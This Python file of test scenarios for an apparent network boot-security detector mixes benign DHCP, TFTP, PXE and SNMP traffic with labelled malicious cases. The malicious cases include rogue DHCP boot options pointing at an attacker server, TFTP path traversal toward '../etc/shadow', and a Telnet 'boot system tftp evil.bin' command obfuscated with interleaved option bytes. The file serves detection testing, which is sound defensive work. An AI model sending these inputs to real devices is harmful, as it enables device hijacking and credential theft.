"""What ordinary networks do that looks like something else: relays, lists of servers, boot menus."""

from __future__ import annotations

from ipaddress import IPv4Address

from bootwarden.scenarios.model import Alert, Expect, Notice, SiteSpec, scenario
from bootwarden.scenarios.sites import BOOT_SERVER as SERVER
from bootwarden.scenarios.sites import CAMPUS, DEVICE, DHCP_SERVER, HQ, OUTSIDE, ROGUE
from bootwarden.traffic import snmp, tftp
from bootwarden.traffic.dhcp import Client, Options, addresses, bootstrap, encode, identified, pnp, suboptions
from bootwarden.traffic.telnet import Telnet
from bootwarden.traffic.wire import Wire

RELAY = "10.0.1.254"
FILE = (67, "edge1-confg")


def named_by_relay(relay: str) -> list[tuple[int, bytes]]:
    """What a server answers a relay that asked to stand in option 54 itself (RFC 5107)."""
    return [(82, encode([(1, b"\0\x05ge-0"), (11, addresses(relay))]))]


@scenario("BW01", "benign", site=HQ, with_site=Expect())
def bw01_lists_of_declared_servers(wire: Wire) -> None:
    """Option 66 lists declared names and addresses, or has their URLs; option 150 lists them as text."""
    for number, options in enumerate(
        (
            [(66, f"{SERVER} boot.corp.example"), FILE],
            [(66, f"boot.corp.example,{SERVER}\0"), FILE],
            [(66, f"tftp://{SERVER}; https://boot.corp.example:8443/ztp/"), FILE],
            [FILE, (66, "http://boot.corp.example"), (67, b"")],
            [(150, f"{SERVER},{SERVER}"), FILE],
            [(67, f"http://{SERVER}"), (66, SERVER)],
            [(209, f"tftp://{SERVER}/pxelinux.cfg/lab"), (210, f"{SERVER}::/pxelinux/"), FILE, (66, SERVER)],
        )
    ):
        Client(wire, f"10.0.1.{40 + number}", xid=0x300 + number).lease(DHCP_SERVER, options)


@scenario("BW01", "benign", site=HQ, with_site=Expect())
def bw01_relay_in_the_servers_place(wire: Wire) -> None:
    """A relay stands in option 54 of what the declared server answers, who names the declared boot server."""
    client = Client(wire, DEVICE, relay=RELAY)
    options = [*named_by_relay(RELAY), (66, SERVER), FILE]
    client.lease(RELAY, options, source=DHCP_SERVER)


@scenario(
    "BW01",
    "malicious",
    site=HQ,
    with_site=Expect(
        (Notice("Rogue_Boot_Options", DEVICE, SERVER, "edge1-confg"),), (Alert(1542101003, ROGUE, RELAY),)
    ),
)
def bw01_rogue_behind_a_relay(wire: Wire) -> None:
    """The same from a rogue server, which hides behind a declared server's address in the relay's sub-option."""
    client = Client(wire, DEVICE, relay=RELAY)
    client.lease(DHCP_SERVER, [*named_by_relay(DHCP_SERVER), (66, SERVER), FILE], source=ROGUE)


def rarer(server: str) -> list[Options]:
    """Each option that only some devices read, naming a server."""
    return [
        [(43, pnp(server))],
        [(43, pnp(server).replace(f"I{server};J80", f"J80;I{server}"))],
        [(43, suboptions({1: f"http://{server}/onie-installer-x86_64"}))],
        [(114, f"http://{server}/onie-installer")],
        [(125, identified(42623, suboptions({1: f"http://{server}/sonic.bin"})))],
        [(128, addresses(server))],
        [(130, f"see tftp://{server}/fw.bin")],
        [(143, bootstrap(f"https://{server}:8443"))],
        [(143, bootstrap(f"https://{SERVER}", f"https://{server}"))],
        [(209, f"http://{server}/pxelinux.cfg/lab")],
        [(210, f"{server}::/boot/")],
        [(239, f"http://{server}/ztp.sh")],
    ]


MANY_DHCP = SiteSpec("many-dhcp", HQ.toml.replace('["10.0.0.2"]', '["10.0.2.0/24"]'), HQ.files)
"""Each branch has a DHCP server of its own."""
OUTLETS = {f"10.0.2.{number}": f"10.0.1.{100 + number}" for number in range(1, len(rarer(ROGUE)) + 1)}
FILES = {
    2: "onie-installer-x86_64",
    3: "onie-installer",
    4: "sonic.bin",
    6: "fw.bin",
    9: "pxelinux.cfg/lab",
    11: "ztp.sh",
}


def leased(wire: Wire, server: str) -> None:
    """Each option from another DHCP server."""
    for (number, options), (dhcp, client) in zip(enumerate(rarer(server)), OUTLETS.items(), strict=True):
        asked = (1, 3, int(options[0][0]), 66)
        Client(wire, client, xid=0x400 + number, asked=asked).lease(dhcp, [*options, (3, addresses("10.0.1.254"))])


@scenario(
    "BW01",
    "malicious",
    site=MANY_DHCP,
    with_site=Expect(
        tuple(Notice("Rogue_Boot_Options", c, ROGUE, FILES.get(n)) for n, c in enumerate(OUTLETS.values())),
        tuple(Alert(1542101001, dhcp, "255.255.255.255") for dhcp in OUTLETS),
    ),
)
def bw01_each_rarer_option(wire: Wire) -> None:
    """In each branch another of the options that only some devices read names the attacker."""
    leased(wire, ROGUE)


@scenario("BW01", "benign", site=MANY_DHCP, with_site=Expect())
def bw01_each_rarer_option_declared(wire: Wire) -> None:
    """The same options name the declared boot server."""
    leased(wire, SERVER)


@scenario(
    "BW01",
    "malicious",
    site=HQ,
    with_site=Expect(
        tuple(Notice("Rogue_Boot_Options", c, SERVER, FILES.get(n)) for n, c in enumerate(OUTLETS.values())),
        tuple(Alert(1542101000, dhcp, "255.255.255.255") for dhcp in OUTLETS),
    ),
)
def bw01_each_rarer_option_undeclared(wire: Wire) -> None:
    """The same again, and the branches' DHCP servers are not declared."""
    leased(wire, SERVER)


IPXE = """#!ipxe
dhcp
set base http://10.0.0.8/images
kernel ${base}/vmlinuz initrd=initrd.img ip=dhcp
initrd ${base}/initrd.img
boot http://10.0.0.8/images/vmlinuz
"""
MENU = (
    """#!ipxe
menu Installers
item rocky Rocky Linux
choose target && goto ${target}
:rocky
boot tftp://10.0.0.8/rocky/vmlinuz
"""
    + "# A comment of the kind that fills such files, in many lines.\n" * 20
    + ":retry\nboot http://10.0.0.8/debian/linux\n"
)


@scenario("BW08", "benign", site=CAMPUS, with_site=Expect())
def bw08_boot_menus(wire: Wire) -> None:
    """A PXE laboratory: iPXE scripts, a PXELINUX menu and a GRUB menu, which boot from the network by trade."""
    lab = "10.0.0.5"
    for number, (name, text) in enumerate(
        (
            ("boot.ipxe", IPXE),
            ("menu.ipxe", MENU),
            (
                "pxelinux.cfg/default",
                "default menu.c32\nlabel a\n kernel http://10.0.0.8/vmlinuz\nlabel b\n boot tftp://10.0.0.8/x\n",
            ),
            ("grub/grub.cfg", "set default=0\nmenuentry x {\n linux (http,10.0.0.8)/vmlinuz\n}\nboot\n"),
        )
    ):
        tftp.read(wire, f"10.0.4.{60 + number}", lab, name, text.encode())


OTHERS = (
    "cm-docsis31-4.6.82.bin",
    "camera-fw_2.800.bin",
    "core-image-minimal-imx8.tar",
    "nodemcu-release-1.5.4.bin",
    "netbox-boot.image",
    "me-cleaner.bin.bin",
)
"""Firmware of modems, cameras and microcontrollers, and images of embedded Linux: they begin as Cisco's names do."""


@scenario("BW10", "benign", site=HQ, with_site=Expect())
def bw10_other_firmware(wire: Wire) -> None:
    """A laboratory's own server hands out firmware of things that are no network devices."""
    for number, name in enumerate(OTHERS):
        tftp.read(wire, f"10.20.1.{number + 1}", "10.20.1.250", name, bytes(range(256)) * 3)


@scenario("BW11", "benign", site=HQ, with_site=Expect())
def bw11_other_firmware(wire: Wire) -> None:
    """Modems and cameras fetch their firmware from their operator's server, beyond the border."""
    for number, name in enumerate(OTHERS):
        tftp.read(wire, f"10.20.2.{number + 1}", OUTSIDE, name, bytes(range(256)) * 3)


@scenario("BW23", "benign", site=CAMPUS, with_site=Expect())
def bw23_other_firmware(wire: Wire) -> None:
    """Some of it is text by right: Intel HEX, Motorola S-records, and scripts."""
    for number, (name, line) in enumerate(
        (
            ("nodemcu-app.1.bin", ":10010000214601360121470136007EFE09D2190140\r\n"),
            ("cm-boot-1.bin", "#!/bin/sh\n: ok\n"),
        )
    ):
        tftp.read(wire, f"10.20.3.{number + 1}", SERVER, name, line.encode() * 20)


@scenario("BW05", "benign", site=HQ, with_site=Expect())
def bw05_harmless_sets(wire: Wire) -> None:
    """A monitoring station writes names, addresses and strings whose bytes look like padding, and saves nothing."""
    manager = snmp.Manager(wire, "10.0.2.30", DEVICE, community="hq-rw")
    manager.set(("1.3.6.1.2.1.1.6.0", "Rack 128, caf\u00e9"), ("1.3.6.1.2.1.1.4.0", "noc@corp.example"))
    manager.set(("1.3.6.1.2.1.2.2.1.7.10128", 1), ("1.3.6.1.2.1.31.1.1.1.18.16384", "uplink"))
    manager.set(("1.3.6.1.4.1.9.9.96.1.1.1.1.5.128", IPv4Address("128.0.128.1")))
    manager.set(("1.3.6.1.4.1.9.9.43.1.1.6.1.6.128", -128), ("1.3.6.1.2.1.16.9.1.1.2.1", 128))
    manager.set(("1.3.6.1.4.1.9.9.68.1.2.2.1.2.16256", 1), ("1.3.6.1.2.1.17.7.1.4.3.1.2.128", b"\x80\x00\x80" * 20))


LONG = "./" * 300 + "../etc/shadow"


@scenario(
    "BW17",
    "malicious",
    plain=Expect(
        (
            Notice("TFTP_Path_Traversal", "10.0.6.6", SERVER, "../../boot.cfg"),
            Notice("TFTP_Path_Traversal", "10.0.6.6", SERVER, LONG[:200] + "..."),
        ),
        (Alert(1542005170, "10.0.6.6", SERVER), Alert(1542005170, "10.0.6.6", SERVER)),
    ),
)
def bw17_long_requests(wire: Wire) -> None:
    """The requests are longer than RFC 1350 and 2347 let them be, which servers read all the same."""
    asked = tftp.request(1, "../../boot.cfg", options={"x-filler": "a" * 600})
    wire.udp("10.0.6.6", 40000, SERVER, 69, asked)
    wire.udp("10.0.6.6", 40001, SERVER, 69, tftp.request(1, LONG))


@scenario(
    "BW07",
    "malicious",
    plain=Expect(alerts=(Alert(1542005070, "10.0.6.6", DEVICE),)),
    site=HQ,
    with_site=Expect((Notice("Boot_Command", DEVICE, ROGUE, "evil.bin"),), (Alert(1542107000, "10.0.6.6", DEVICE),)),
)
def bw07_options_between_letters(wire: Wire) -> None:
    """Telnet's own commands stand between the letters of a command: no operation, a terminal's type, a window's size."""
    session = Telnet(wire, "10.0.6.6", DEVICE, prompt="edge1(config)#")
    session.login()
    between = (b"\xff\xf1", b"\xff\xfb\x18", b"\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0")
    line = f"boot system tftp evil.bin {ROGUE}"
    session.tcp.send(b"".join(c.encode() + between[n % 3] for n, c in enumerate(line)) + b"\r\0")
    session.tcp.reply(f"{line}\r\nedge1(config)#".encode())
    session.close()
